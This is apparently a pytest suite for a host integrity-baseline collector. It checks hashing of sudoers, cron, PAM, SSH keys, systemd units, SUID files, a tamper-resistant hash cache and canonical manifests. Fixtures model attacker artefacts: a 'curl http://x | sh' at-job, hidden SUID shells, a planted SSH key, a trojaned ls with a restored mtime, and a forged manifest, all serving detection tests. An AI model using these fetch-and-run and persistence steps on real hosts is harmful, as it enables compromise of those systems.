"""Host-side baseline collectors (plugins/module_utils/enp_baseline_collect.py) on a fake root in tmp_path:
what each section records, that images work without the live-only sections, canonical output, and the hash
cache (reuse, and ctime catching a file whose mtime was put back)."""

from __future__ import annotations

import base64
import datetime
import hashlib
import io
import json
import os
import pathlib
import shutil
import subprocess

import pytest
from ansible.module_utils.enp_baseline_collect import (
    FileScan,
    HashCache,
    RawSection,
    SkipMatcher,
    capture,
    collect_authorized_keys,
    collect_cron,
    collect_groups,
    collect_nftables,
    collect_pam,
    collect_postgresql,
    collect_preload,
    collect_sudoers,
    collect_units,
    collect_users,
    iter_sections,
    key_fingerprint,
    parse_authorized_keys,
    parse_dpkg_status,
    parse_proc_net,
    previous_digest,
    save_manifest,
    walk_order,
    write_canonical,
)
from hypothesis import given, settings
from hypothesis import strategies as st

NOW = datetime.datetime(2026, 12, 6, 4, 0, tzinfo=datetime.UTC)
ED25519_BLOB = "AAAAC3NzaC1lZDI1NTE5AAAAIAAtHs5IiZhn2n/dV/YaRWuKupvPP4GzGyHtJ3n5+1Qh"
DPKG_STATUS = """\
Package: openssh-server
Status: install ok installed
Architecture: amd64
Version: 1:9.2p1-2+deb12u3
Description: secure shell (SSH) server
 multi-line description
 Version: 0.0 not a field

Package: libc6
Status: install ok installed
Architecture: amd64
Multi-Arch: same
Version: 2.36-9+deb12u7

Package: removed-one
Status: deinstall ok config-files
Architecture: all
Version: 1.0

Package: half
Status: install reinstreq half-configured
Architecture: all
Version: 2.0
"""


def sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def write(root: pathlib.Path, path: str, text: str | bytes = "", mode: int = 0o644) -> pathlib.Path:
    target = root / path.lstrip("/")
    target.parent.mkdir(parents=True, exist_ok=True)
    if isinstance(text, bytes):
        target.write_bytes(text)
    else:
        target.write_text(text)
    target.chmod(mode)
    return target


def link(root: pathlib.Path, path: str, target: str) -> None:
    where = root / path.lstrip("/")
    where.parent.mkdir(parents=True, exist_ok=True)
    where.symlink_to(target)


@pytest.fixture
def fake_root(tmp_path: pathlib.Path) -> pathlib.Path:
    root = tmp_path / "root"
    write(root, "/var/lib/dpkg/status", DPKG_STATUS)
    write(
        root,
        "/etc/passwd",
        "root:x:0:0:root:/root:/bin/bash\n"
        "daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n"
        "enp:x:1000:1000:operator:/home/enp:/bin/bash\n"
        "civic:x:999:999::/opt/civic-services:/usr/sbin/nologin\n",
    )
    write(root, "/etc/shadow", "root:*:19000:0:99999:7:::\ndaemon:*:19000::::::\nenp:!:19000::::::\n", 0o640)
    write(root, "/etc/group", "root:x:0:\nsudo:x:27:zed,enp\nenp:x:1000:\ncivic:x:999:\n")
    write(root, "/etc/sudoers", "root ALL=(ALL:ALL) ALL\n@includedir /etc/sudoers.d\n", 0o440)
    write(root, "/etc/sudoers.d/enp", "enp ALL=(ALL) NOPASSWD: ALL\n", 0o440)
    write(root, "/home/enp/.ssh/authorized_keys", f"ssh-ed25519 {ED25519_BLOB} enp@controller\n", 0o600)
    write(root, "/etc/crontab", "17 * * * * root cd / && run-parts --report /etc/cron.hourly\n")
    write(root, "/etc/cron.d/e2scrub_all", "30 3 * * 0 root test -e /run/systemd/system || /sbin/e2scrub_all\n")
    write(root, "/etc/cron.daily/apt-compat", "#!/bin/sh\n", 0o755)
    write(root, "/var/spool/cron/crontabs/enp", "* * * * * /bin/true\n", 0o600)
    write(root, "/etc/pam.d/common-auth", "auth [success=1 default=ignore] pam_unix.so nullok\n")
    write(root, "/etc/security/limits.conf", "# limits\n")
    write(root, "/etc/security/limits.d/ignored.txt", "not a .conf in /etc/security itself\n")
    # systemd: merged /usr (/lib -> usr/lib), a vendor unit enabled by a wants/ link, a static one, a disabled
    # one, a masked one, an alias, and an admin unit in /etc.
    link(root, "/lib", "usr/lib")
    write(
        root,
        "/usr/lib/systemd/system/ssh.service",
        "[Service]\nExecStart=/usr/sbin/sshd -D\n[Install]\nWantedBy=multi-user.target\n",
    )
    write(root, "/usr/lib/systemd/system/systemd-journald.service", "[Service]\nExecStart=/lib/systemd/journald\n")
    write(
        root,
        "/usr/lib/systemd/system/rsync.service",
        "[Service]\nExecStart=/usr/bin/rsync\n[Install]\nWantedBy=multi-user.target\n",
    )
    write(
        root,
        "/usr/lib/systemd/system/getty@.service",
        "[Service]\nExecStart=/sbin/agetty\n[Install]\nWantedBy=getty.target\n",
    )
    write(
        root,
        "/usr/lib/systemd/system/apt-daily.timer",
        "[Timer]\nOnCalendar=daily\n[Install]\nWantedBy=timers.target\n",
    )
    link(root, "/etc/systemd/system/multi-user.target.wants/ssh.service", "/lib/systemd/system/ssh.service")
    link(root, "/etc/systemd/system/getty.target.wants/getty@tty1.service", "/lib/systemd/system/getty@.service")
    link(root, "/etc/systemd/system/sshd.service", "/lib/systemd/system/ssh.service")
    link(root, "/etc/systemd/system/apt-daily.timer", "/dev/null")
    write(
        root,
        "/etc/systemd/system/backup.service",
        "[Service]\nExecStart=/usr/local/bin/backup\n[Install]\nWantedBy=multi-user.target\n",
    )
    write(root, "/home/enp/.config/systemd/user/agent.service", "[Service]\nExecStart=/tmp/.agent\n")
    # Files, SUID bits, a symlink, a skipped subtree.
    write(root, "/usr/bin/passwd", b"\x7fELF passwd", 0o4755)
    write(root, "/usr/bin/wall", b"\x7fELF wall", 0o2755)
    write(root, "/usr/bin/ls", b"\x7fELF ls", 0o755)
    link(root, "/usr/bin/vi", "/etc/alternatives/vi")
    write(root, "/usr/share/doc/ls/copyright", "GPL\n")
    write(root, "/usr/lib/python3/dist-packages/x/__pycache__/x.cpython-311.pyc", b"pyc")
    write(root, "/etc/machine-id", "0123456789abcdef\n", 0o444)
    return root


# ------------------------------------------------------------------------------------------------ packages


def test_dpkg_status_lists_installed_and_half_installed_packages_only() -> None:
    assert parse_dpkg_status(DPKG_STATUS) == {
        "openssh-server:amd64": "1:9.2p1-2+deb12u3",
        "libc6:amd64": "2.36-9+deb12u7",
        "half:all": "2.0 (half-configured)",
    }


# --------------------------------------------------------------------------------------------------- users


def test_users_with_locked_state_and_groups_with_sorted_members(fake_root: pathlib.Path) -> None:
    users = collect_users(str(fake_root))
    assert users["root"] == {"uid": 0, "gid": 0, "home": "/root", "shell": "/bin/bash", "locked": True}
    assert users["enp"]["locked"] is True and users["enp"]["uid"] == 1000
    assert set(users) == {"root", "daemon", "enp", "civic"}
    groups = collect_groups(str(fake_root))
    assert groups["sudo"] == {"gid": 27, "members": ["enp", "zed"]}
    assert groups["root"]["members"] == []


def test_a_user_with_a_password_hash_is_not_locked(fake_root: pathlib.Path) -> None:
    write(fake_root, "/etc/shadow", "root:$y$j9T$abc$def:19000:0:99999:7:::\n")
    assert collect_users(str(fake_root))["root"]["locked"] is False


# ------------------------------------------------------------------------------------- files hashed by name


def test_sudoers_cron_pam_preload_are_hashed_by_path_inside_the_root(fake_root: pathlib.Path) -> None:
    root = str(fake_root)
    assert collect_sudoers(root) == {
        "/etc/sudoers": sha(b"root ALL=(ALL:ALL) ALL\n@includedir /etc/sudoers.d\n"),
        "/etc/sudoers.d/enp": sha(b"enp ALL=(ALL) NOPASSWD: ALL\n"),
    }
    cron = collect_cron(root)
    assert set(cron) == {
        "/etc/crontab",
        "/etc/cron.d/e2scrub_all",
        "/etc/cron.daily/apt-compat",
        "/var/spool/cron/crontabs/enp",
    }
    assert cron["/var/spool/cron/crontabs/enp"] == sha(b"* * * * * /bin/true\n")
    assert set(collect_pam(root)) == {"/etc/pam.d/common-auth", "/etc/security/limits.conf"}
    assert collect_preload(root) == {"/etc/ld.so.preload": []}
    write(fake_root, "/etc/ld.so.preload", "/usr/lib/x86_64-linux-gnu/libsystem.so\n\n")
    assert collect_preload(root) == {"/etc/ld.so.preload": ["/usr/lib/x86_64-linux-gnu/libsystem.so"]}


def test_an_at_job_is_a_cron_entry(fake_root: pathlib.Path) -> None:
    write(fake_root, "/var/spool/cron/atjobs/a0000101a2b3c4", "#!/bin/sh\ncurl http://x | sh\n", 0o700)
    assert "/var/spool/cron/atjobs/a0000101a2b3c4" in collect_cron(str(fake_root))


# ------------------------------------------------------------------------------------------ authorized keys


def test_key_fingerprint_is_the_one_ssh_keygen_prints(tmp_path: pathlib.Path) -> None:
    blob = base64.b64decode(ED25519_BLOB)
    expected = "SHA256:" + base64.b64encode(hashlib.sha256(blob).digest()).decode().rstrip("=")
    assert key_fingerprint(ED25519_BLOB) == expected
    if shutil.which("ssh-keygen"):
        key = write(tmp_path, "/k.pub", f"ssh-ed25519 {ED25519_BLOB} x\n")
        out = subprocess.run(["ssh-keygen", "-lf", str(key)], capture_output=True, text=True, check=True).stdout
        assert out.split()[1] == expected


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        (f"ssh-ed25519 {ED25519_BLOB} a@b", f"ssh-ed25519 {key_fingerprint(ED25519_BLOB)} a@b"),
        (f"ssh-ed25519 {ED25519_BLOB}", f"ssh-ed25519 {key_fingerprint(ED25519_BLOB)}"),
        (
            f'from="10.0.0.1",command="/bin/sh -c \\"id\\"" ssh-ed25519 {ED25519_BLOB} x',
            f'ssh-ed25519 {key_fingerprint(ED25519_BLOB)} x options=from="10.0.0.1",command="/bin/sh -c \\"id\\""',
        ),
        ("# a comment", None),
        ("", None),
        ("garbage", "invalid " + sha(b"garbage")),
    ],
)
def test_authorized_keys_lines(line: str, expected: str | None) -> None:
    assert parse_authorized_keys(line) == ([expected] if expected else [])


def test_authorized_keys_of_every_user_and_the_configured_location(fake_root: pathlib.Path) -> None:
    write(fake_root, "/root/.ssh/authorized_keys2", f"ssh-ed25519 {ED25519_BLOB} old\n")
    keys = collect_authorized_keys(str(fake_root))
    assert keys["/home/enp/.ssh/authorized_keys"] == [f"ssh-ed25519 {key_fingerprint(ED25519_BLOB)} enp@controller"]
    assert "/root/.ssh/authorized_keys2" in keys
    # sshd_config moves the keys: that location is read for every account.
    write(fake_root, "/etc/ssh/sshd_config", "AuthorizedKeysFile /etc/ssh/keys/%u .ssh/authorized_keys\n")
    write(fake_root, "/etc/ssh/keys/civic", f"ssh-ed25519 {ED25519_BLOB} planted\n")
    keys = collect_authorized_keys(str(fake_root))
    assert keys["/etc/ssh/keys/civic"] == [f"ssh-ed25519 {key_fingerprint(ED25519_BLOB)} planted"]


# ------------------------------------------------------------------------------------------------- units


def test_unit_states_come_from_the_files_and_wants_links(fake_root: pathlib.Path) -> None:
    units = collect_units(str(fake_root), [("enp", "/home/enp"), ("root", "/root")])
    assert units["ssh.service"]["state"] == "enabled"
    assert units["ssh.service"]["path"] == "/lib/systemd/system/ssh.service"  # merged /usr seen once
    assert units["ssh.service"]["sha256"] == sha((fake_root / "usr/lib/systemd/system/ssh.service").read_bytes())
    assert units["sshd.service"]["state"] == "enabled" and units["sshd.service"]["target"].endswith("ssh.service")
    assert units["systemd-journald.service"]["state"] == "static"
    assert units["rsync.service"]["state"] == "disabled"
    assert units["getty@.service"]["state"] == "enabled"
    assert units["apt-daily.timer"] == {
        "state": "masked",
        "path": "/etc/systemd/system/apt-daily.timer",
        "sha256": None,
    }
    assert units["backup.service"]["path"] == "/etc/systemd/system/backup.service"
    assert units["backup.service"]["state"] == "disabled"
    assert units["user:enp:agent.service"]["path"] == "/home/enp/.config/systemd/user/agent.service"


def test_enabling_an_admin_unit_changes_its_state(fake_root: pathlib.Path) -> None:
    link(fake_root, "/etc/systemd/system/multi-user.target.wants/backup.service", "/etc/systemd/system/backup.service")
    assert collect_units(str(fake_root))["backup.service"]["state"] == "enabled"


# ------------------------------------------------------------------------------------------------- files


def test_file_scan_records_metadata_hashes_suid_and_skips(fake_root: pathlib.Path) -> None:
    scan = FileScan(
        str(fake_root), ["/usr/bin", "/usr/share", "/etc/"], ["/usr/share/doc", "*/__pycache__"], None
    ).run()
    entries = {path: json.loads(text) for path, text in scan.entries.items()}
    assert entries["/usr/bin/passwd"] == {
        "type": "file",
        "mode": "4755",
        "uid": os.getuid(),
        "gid": os.getgid(),
        "size": len(b"\x7fELF passwd"),
        "sha256": sha(b"\x7fELF passwd"),
    }
    assert entries["/usr/bin/vi"]["type"] == "link" and entries["/usr/bin/vi"]["target"] == "/etc/alternatives/vi"
    assert entries["/etc/systemd/system/apt-daily.timer"]["target"] == "/dev/null"
    assert entries["/usr/bin"]["type"] == "dir"
    assert entries["/etc/machine-id"]["mode"] == "0444"
    assert not any(path.startswith("/usr/share/doc") for path in entries)
    assert scan.suid == {"/usr/bin/passwd": "4755", "/usr/bin/wall": "2755"}
    assert scan.hashed == sum(1 for e in entries.values() if e["type"] == "file")


def test_suid_section_sweeps_outside_the_hashed_trees(fake_root: pathlib.Path) -> None:
    # An attacker's SUID shell where nothing is hashed, one in a skipped pseudo filesystem, and a plain file.
    for rel, mode in (("var/tmp/.x/sh", 0o4755), ("dev/shm/s", 0o2755), ("proc/1/fake", 0o4755), ("var/tmp/ok", 0o755)):
        target = fake_root / rel
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(b"\x7fELF")
        target.chmod(mode)
    manifest = capture(
        host="h",
        root=str(fake_root),
        paths=["/usr/bin"],
        suid_paths=["/"],
        suid_skip_paths=["/proc", "/sys"],
        sections=["suid"],
        live=False,
    )
    suid = manifest["sections"]["suid"]
    assert suid == {"/usr/bin/passwd": "4755", "/usr/bin/wall": "2755", "/var/tmp/.x/sh": "4755", "/dev/shm/s": "2755"}
    # Without the sweep only the hashed trees are covered (what verify missed before).
    narrow = capture(host="h", root=str(fake_root), paths=["/usr/bin"], sections=["suid"], live=False)
    assert set(narrow["sections"]["suid"]) == {"/usr/bin/passwd", "/usr/bin/wall"}


def test_nested_and_missing_paths(fake_root: pathlib.Path) -> None:
    scan = FileScan(str(fake_root), ["/usr", "/usr/bin", "/srv/app"], [], None).run()
    assert scan.paths == ["/srv/app", "/usr"]  # /usr/bin is inside /usr: scanned once
    assert scan.missing == ["/srv/app"]
    assert "/usr/lib/python3/dist-packages/x/__pycache__/x.cpython-311.pyc" in scan.entries


def test_skip_matcher_plain_paths_and_globs() -> None:
    skip = SkipMatcher(["/usr/share/doc/", "/home/*/.cache", "*.pyc"])
    assert skip("/usr/share/doc") and not skip("/usr/share/docs")
    assert skip("/home/enp/.cache") and skip("/usr/lib/a.pyc") and not skip("/home/enp/.cachex")
    assert skip.covers("/usr/share/doc/ls") and not skip.covers("/usr/share")


def test_an_unreadable_file_is_recorded_without_a_hash(
    fake_root: pathlib.Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import ansible.module_utils.enp_baseline_collect as collect

    real = collect.sha256_file

    def refuse(fspath: str) -> str:
        if fspath.endswith("/etc/secret"):
            raise PermissionError(13, "Permission denied")
        return real(fspath)

    monkeypatch.setattr(collect, "sha256_file", refuse)
    write(fake_root, "/etc/secret", "x", 0o000)
    scan = FileScan(str(fake_root), ["/etc"], [], None).run()
    assert json.loads(scan.entries["/etc/secret"])["sha256"] is None
    assert scan.error_count == 1 and scan.errors == ["/etc/secret: Permission denied"]


# ------------------------------------------------------------------------------------------------ the cache


def _age(path: pathlib.Path) -> None:
    """Files written by the test are 'racy' (changed within the cache's safety window): make them old."""
    old = os.stat(path).st_mtime - 3600
    os.utime(path, (old, old))


def test_hash_cache_reuses_unchanged_files_and_rereads_changed_ones(
    fake_root: pathlib.Path, tmp_path: pathlib.Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(HashCache, "RACY_NS", -(10**12))  # files just written count as settled
    cache_path = str(tmp_path / "state" / "hashcache.sqlite")
    first = HashCache(cache_path)
    scan = FileScan(str(fake_root), ["/usr/bin", "/etc"], [], first).run()
    first.close()
    assert scan.hashed > 5 and scan.reused == 0
    assert oct(os.stat(cache_path).st_mode & 0o777) == "0o600"

    second = HashCache(cache_path)
    again = FileScan(str(fake_root), ["/usr/bin", "/etc"], [], second).run()
    second.close()
    assert again.hashed == 0 and again.reused == scan.hashed
    assert again.entries == scan.entries

    # An attacker edits ls and puts its mtime back (touch -r): ctime still changes, so it is read again.
    target = fake_root / "usr/bin/ls"
    before = os.stat(target)
    target.write_bytes(b"\x7fELF lX")
    os.utime(target, ns=(before.st_atime_ns, before.st_mtime_ns))
    assert os.stat(target).st_mtime_ns == before.st_mtime_ns and os.stat(target).st_size == before.st_size
    third = HashCache(cache_path)
    changed = FileScan(str(fake_root), ["/usr/bin", "/etc"], [], third).run()
    third.close()
    assert changed.hashed == 1
    assert json.loads(changed.entries["/usr/bin/ls"])["sha256"] == sha(b"\x7fELF lX")


def test_cache_in_check_mode_is_read_but_not_written(fake_root: pathlib.Path, tmp_path: pathlib.Path) -> None:
    cache_path = tmp_path / "hashcache.sqlite"
    cache = HashCache(str(cache_path), writable=False)
    FileScan(str(fake_root), ["/usr/bin"], [], cache).run()
    cache.close()
    assert not cache_path.exists() and not list(tmp_path.glob("hashcache*"))


def test_racy_files_are_not_cached(fake_root: pathlib.Path, tmp_path: pathlib.Path) -> None:
    cache_path = str(tmp_path / "hashcache.sqlite")
    _age(fake_root / "usr/bin/passwd")
    cache = HashCache(cache_path)
    FileScan(str(fake_root), ["/usr/bin"], [], cache).run()
    cache.close()
    cache = HashCache(cache_path)
    scan = FileScan(str(fake_root), ["/usr/bin"], [], cache).run()
    cache.close()
    # Every file was just written (its ctime is within the race window), so all are hashed again.
    assert scan.reused == 0 and scan.hashed == 3


def test_a_broken_cache_file_is_ignored(fake_root: pathlib.Path, tmp_path: pathlib.Path) -> None:
    cache_path = tmp_path / "hashcache.sqlite"
    cache_path.write_text("not sqlite")
    cache = HashCache(str(cache_path))
    scan = FileScan(str(fake_root), ["/usr/bin"], [], cache).run()
    cache.close()
    assert scan.hashed == 3


# ---------------------------------------------------------------------------------------------- live only


PROC_TCP = """\
  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode
   0: 00000000:0016 00000000:0000 0A 00000000:00000000 00:00000000 00000000     0        0 12345 1 0
   1: 0100007F:1F90 00000000:0000 0A 00000000:00000000 00:00000000 00000000   999        0 12346 1 0
   2: 0B02A8C0:0016 0A02A8C0:D431 01 00000000:00000000 02:00000000 00000000     0        0 22222 2 0
"""
PROC_TCP6 = (
    "  sl  local_address                         remote_address                        st tx_queue rx_queue\n"
    "   0: 00000000000000000000000000000000:0016 00000000000000000000000000000000:0000 0A 00000000:00000000"
    " 00:00000000 00000000     0        0 12347 1 0\n"
    "   1: 00000000000000000000000001000000:0019 00000000000000000000000000000000:0000 0A 00000000:00000000"
    " 00:00000000 00000000     0        0 12348 1 0\n"
)
PROC_UDP = """\
  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode ref pointer drops
  100: 00000000:0143 00000000:0000 07 00000000:00000000 00:00000000 00000000     0        0 3333 2 0 0
  101: 0100007F:A000 0100007F:0035 01 00000000:00000000 00:00000000 00000000     0        0 4444 2 0 0
"""


def test_proc_net_parsing_keeps_listening_tcp_and_bound_udp() -> None:
    assert parse_proc_net(PROC_TCP, "tcp") == {12345: "tcp:0.0.0.0:22", 12346: "tcp:127.0.0.1:8080"}
    assert parse_proc_net(PROC_TCP6, "tcp6") == {12347: "tcp6:[::]:22", 12348: "tcp6:[::1]:25"}
    assert parse_proc_net(PROC_UDP, "udp") == {3333: "udp:0.0.0.0:323"}


def test_nftables_ruleset_digest_and_tables() -> None:
    calls = []

    def run(argv: list[str]) -> tuple[int, str, str]:
        calls.append(argv)
        if argv[-1] == "ruleset":
            return 0, "table inet enp_filter {\n}\n", ""
        return 0, "table inet enp_filter\ntable ip nat\n", ""

    assert collect_nftables(run) == {
        "ruleset": sha(b"table inet enp_filter {\n}\n"),
        "tables": ["inet enp_filter", "ip nat"],
    }
    assert calls[0] == ["nft", "-s", "list", "ruleset"]


def test_postgresql_objects_per_database(tmp_path: pathlib.Path) -> None:
    hba = write(tmp_path, "/etc/postgresql/15/main/pg_hba.conf", "hostssl all all 0.0.0.0/0 scram-sha-256\n")
    US, RS = "\x1f", "\x1e"
    queries: list[tuple[str, str]] = []

    def run(argv: list[str]) -> tuple[int, str, str]:
        assert argv[:5] == ["runuser", "-u", "postgres", "--", "psql"]
        database, query = argv[argv.index("-d") + 1], argv[-1]
        queries.append((database, query.split()[1]))
        if "FROM pg_roles" in query:
            rows = [
                ["postgres", "t", "t", "t", "t", "t", "t", "t", "-1", "", ""],
                ["civic_app", *"ftfftff", "10", "", "civic_rw"],
            ]
        elif "FROM pg_database" in query:
            rows = [["civic"], ["postgres"]]
        elif "FROM pg_class" in query and database == "civic":
            rows = [["civic", "documents", "r", "id bigint not null,ulb_id integer"]]
        elif "FROM pg_proc" in query and database == "civic":
            rows = [["civic", "audit()", "ab" * 32]]
        elif "FROM pg_trigger" in query and database == "civic":
            rows = [["civic", "documents", "audit_trg", "cd" * 32]]
        elif "FROM pg_extension" in query:
            rows = [["plpgsql", "1.0"]]
        elif query == "SHOW hba_file":
            rows = [[str(hba)]]
        else:
            rows = []
        return 0, RS.join(US.join(row) for row in rows) + ("\n" if rows else ""), ""

    section = collect_postgresql(run)
    assert section["role:postgres"]["superuser"] is True
    assert section["role:civic_app"] == {
        "superuser": False,
        "inherit": True,
        "createrole": False,
        "createdb": False,
        "login": True,
        "replication": False,
        "bypassrls": False,
        "connection_limit": 10,
        "valid_until": None,
        "member_of": ["civic_rw"],
    }
    assert section["table:civic/civic.documents"] == {"kind": "r", "columns": ["id bigint not null", "ulb_id integer"]}
    assert section["function:civic/civic.audit()"] == "ab" * 32
    assert section["trigger:civic/civic.documents.audit_trg"] == "cd" * 32
    assert section["extension:civic/plpgsql"] == "1.0" and section["extension:postgres/plpgsql"] == "1.0"
    assert section["hba"] == sha(hba.read_bytes())
    assert "template0" not in {db for db, _ in queries} and "template1" not in {db for db, _ in queries}


def test_a_psql_failure_says_which_database() -> None:
    with pytest.raises(RuntimeError, match="database postgres"):
        collect_postgresql(lambda argv: (2, "", "connection refused"))


# ---------------------------------------------------------------------------------------- whole manifest


def test_capture_of_an_image_skips_what_only_a_running_system_has(fake_root: pathlib.Path) -> None:
    manifest = capture(
        host="web1", roles=["web", "estate", "web"], root=str(fake_root), paths=["/usr/bin", "/etc"], now=NOW
    )
    assert manifest["format"] == "enp-baseline/1" and manifest["host"] == "web1"
    assert manifest["roles"] == ["estate", "web"] and manifest["root"] == str(fake_root)
    assert manifest["captured_at"] == "2026-12-06T04:00:00Z"
    sections = dict(iter_sections(manifest))
    for live_only in ("listeners", "kernel_modules", "nftables", "postgresql"):
        assert live_only not in sections
        assert "mounted image" in manifest["stats"]["skipped"][live_only]
    assert manifest["stats"]["skipped"]["nginx"] == "no /etc/nginx"
    assert sections["packages"]["openssh-server:amd64"] == "1:9.2p1-2+deb12u3"
    assert sections["suid"] == {"/usr/bin/passwd": "4755", "/usr/bin/wall": "2755"}
    assert "/etc/passwd" in sections["files"] and "/etc/sudoers.d/enp" in sections["sudoers"]
    assert sections["users"]["enp"]["home"] == "/home/enp"
    assert "/home/enp/.ssh/authorized_keys" in sections["authorized_keys"]
    stats = manifest["stats"]
    assert stats["files"] == len(sections["files"]) and stats["hashed"] > 0 and stats["files_per_second"] > 0
    assert stats["container"] == "none"


def test_capture_only_requested_sections(fake_root: pathlib.Path) -> None:
    manifest = capture(host="h", root=str(fake_root), sections=["users", "cron"], live=False)
    assert set(manifest["sections"]) == {"users", "cron"}
    assert manifest["stats"]["skipped"]["files"] == "not requested (baseline_sections)"


def test_a_missing_dpkg_database_is_a_skipped_section_with_its_reason(fake_root: pathlib.Path) -> None:
    (fake_root / "var/lib/dpkg/status").unlink()
    manifest = capture(host="h", root=str(fake_root), sections=["packages"], live=False)
    assert "packages" not in manifest["sections"]
    assert "dpkg/status" in manifest["stats"]["skipped"]["packages"]


def test_written_manifest_is_exactly_canonical_json(fake_root: pathlib.Path, tmp_path: pathlib.Path) -> None:
    write(fake_root, "/etc/motd", "नगर पालिका\n")  # non-ASCII stays UTF-8 text
    manifest = capture(host="web1", root=str(fake_root), paths=["/usr/bin", "/etc"], live=False, now=NOW)
    assert isinstance(manifest["sections"]["files"], RawSection)
    dest = tmp_path / "out" / "baseline.json"
    changed, digest, captured = save_manifest(manifest, str(dest))
    assert changed and captured == "2026-12-06T04:00:00Z"
    text = dest.read_text(encoding="utf-8")
    data = json.loads(text)
    assert text == json.dumps(data, sort_keys=True, separators=(",", ":"), ensure_ascii=False) + "\n"
    assert "नगर" not in text or "\\u" not in text
    assert data["stats"]["content_sha256"] == digest
    assert oct(dest.stat().st_mode & 0o777) == "0o600" and oct(dest.parent.stat().st_mode & 0o777) == "0o700"
    assert previous_digest(str(dest)) == (digest, "2026-12-06T04:00:00Z")


def test_an_unchanged_host_keeps_its_manifest_and_timestamp(fake_root: pathlib.Path, tmp_path: pathlib.Path) -> None:
    dest = str(tmp_path / "baseline.json")
    first = capture(host="web1", root=str(fake_root), paths=["/usr/bin"], live=False, now=NOW)
    save_manifest(first, dest)
    before = pathlib.Path(dest).read_bytes()
    later = NOW + datetime.timedelta(hours=1)
    second = capture(host="web1", root=str(fake_root), paths=["/usr/bin"], live=False, now=later)
    changed, _digest, captured = save_manifest(second, dest)
    assert not changed and captured == "2026-12-06T04:00:00Z"
    assert pathlib.Path(dest).read_bytes() == before
    # Check mode: a change is reported, nothing is written.
    write(fake_root, "/usr/bin/ls", b"\x7fELF trojan", 0o755)
    third = capture(host="web1", root=str(fake_root), paths=["/usr/bin"], live=False, now=later)
    changed, _digest, captured = save_manifest(third, dest, check_mode=True)
    assert changed and captured == "2026-12-06T05:00:00Z"
    assert pathlib.Path(dest).read_bytes() == before
    changed, _digest, _captured = save_manifest(third, dest)
    assert changed and pathlib.Path(dest).read_bytes() != before


def test_write_canonical_streams_large_raw_sections(tmp_path: pathlib.Path) -> None:
    files = RawSection(
        {f"/f/{i:06d}": json.dumps({"sha256": "0" * 64, "size": i}, separators=(",", ":")) for i in range(30000)}
    )
    manifest = {"format": "enp-baseline/1", "host": "h", "captured_at": "x", "sections": {"files": files}, "stats": {}}
    path = tmp_path / "m.json"
    with open(path, "w", encoding="utf-8") as handle:
        write_canonical(manifest, handle)
    data = json.loads(path.read_text())
    assert len(data["sections"]["files"]) == 30000
    assert path.read_text() == json.dumps(data, sort_keys=True, separators=(",", ":"), ensure_ascii=False) + "\n"


def test_cache_merge_survives_files_added_and_removed_between_scans(
    fake_root: pathlib.Path, tmp_path: pathlib.Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The cache is merged in visiting order: new and deleted paths in the middle must not break reuse."""
    monkeypatch.setattr(HashCache, "RACY_NS", -(10**12))
    cache_path = str(tmp_path / "hashcache.sqlite")
    for name in ("a", "m", "z"):
        for index in range(5):
            write(fake_root, f"/usr/lib/{name}/{index}.so", f"{name}{index}")
    cache = HashCache(cache_path)
    first = FileScan(str(fake_root), ["/usr", "/etc"], [], cache).run()
    cache.close()
    (fake_root / "usr/lib/m/2.so").unlink()
    write(fake_root, "/usr/lib/m/2a.so", "new")
    write(fake_root, "/usr/lib/b/0.so", "new dir")
    write(fake_root, "/usr/bin/ls", b"\x7fELF changed", 0o755)
    cache = HashCache(cache_path)
    second = FileScan(str(fake_root), ["/usr", "/etc"], [], cache).run()
    cache.close()
    assert second.hashed == 3  # 2a.so, b/0.so, ls
    assert second.reused == first.hashed - 2  # all but the deleted 2.so and the changed ls
    cache = HashCache(cache_path)
    third = FileScan(str(fake_root), ["/usr", "/etc"], [], cache).run()
    cache.close()
    assert third.hashed == 0 and third.entries == second.entries


def test_walk_visits_depth_first_in_name_order(fake_root: pathlib.Path) -> None:
    scan = FileScan(str(fake_root), ["/usr/lib", "/etc"], [], None).run()
    order = list(scan.entries)
    assert order == sorted(order, key=walk_order)


_text = st.text(st.characters(blacklist_categories=("Cs",)), max_size=12)
_leaf = st.none() | st.booleans() | st.integers(-(2**40), 2**40) | _text
_value = st.recursive(
    _leaf, lambda inner: st.lists(inner, max_size=3) | st.dictionaries(_text, inner, max_size=3), max_leaves=8
)


@settings(max_examples=150, deadline=None)
@given(
    sections=st.dictionaries(
        st.sampled_from(["users", "cron", "units", "x"]), st.dictionaries(_text, _value, max_size=4)
    ),
    files=st.dictionaries(_text, st.dictionaries(_text, _leaf, max_size=4), max_size=6),
    host=_text.filter(bool),
)
def test_streamed_manifest_equals_json_dumps_canonical(sections: dict, files: dict, host: str) -> None:
    """Whatever the content, the streamed writer produces exactly the canonical JSON that is signed."""
    raw = RawSection(
        {
            path: json.dumps(entry, sort_keys=True, separators=(",", ":"), ensure_ascii=False)
            for path, entry in files.items()
        }
    )
    manifest = {
        "format": "enp-baseline/1",
        "host": host,
        "captured_at": "t",
        "sections": {**sections, "files": raw},
        "stats": {},
    }
    buffer = io.StringIO()
    digest = write_canonical(manifest, buffer)
    plain = {**manifest, "sections": {**sections, "files": files}}
    assert buffer.getvalue() == json.dumps(plain, sort_keys=True, separators=(",", ":"), ensure_ascii=False) + "\n"
    # The content digest ignores the capture time and the statistics.
    other = {**manifest, "captured_at": "later", "stats": {"seconds": 1.5}}
    assert write_canonical(other, io.StringIO()) == digest


def test_a_forged_live_manifest_is_never_kept(fake_root: pathlib.Path, tmp_path: pathlib.Path) -> None:
    """A root attacker leaves a clean-looking live.json whose recorded digest matches the real (dirty) state."""
    dest = tmp_path / "live.json"
    real = capture(host="web1", root=str(fake_root), paths=["/usr/bin"], live=False, now=NOW)
    _changed, digest, _captured = save_manifest(real, str(dest))
    forged = dest.read_text().replace('"/usr/bin/passwd"', '"/usr/bin/passwX"')
    dest.write_text(forged)
    assert previous_digest(str(dest))[0] == digest  # the forged file claims the right digest
    changed, _digest, _captured = save_manifest(real, str(dest), keep_unchanged=False)
    assert not changed  # same content as claimed ...
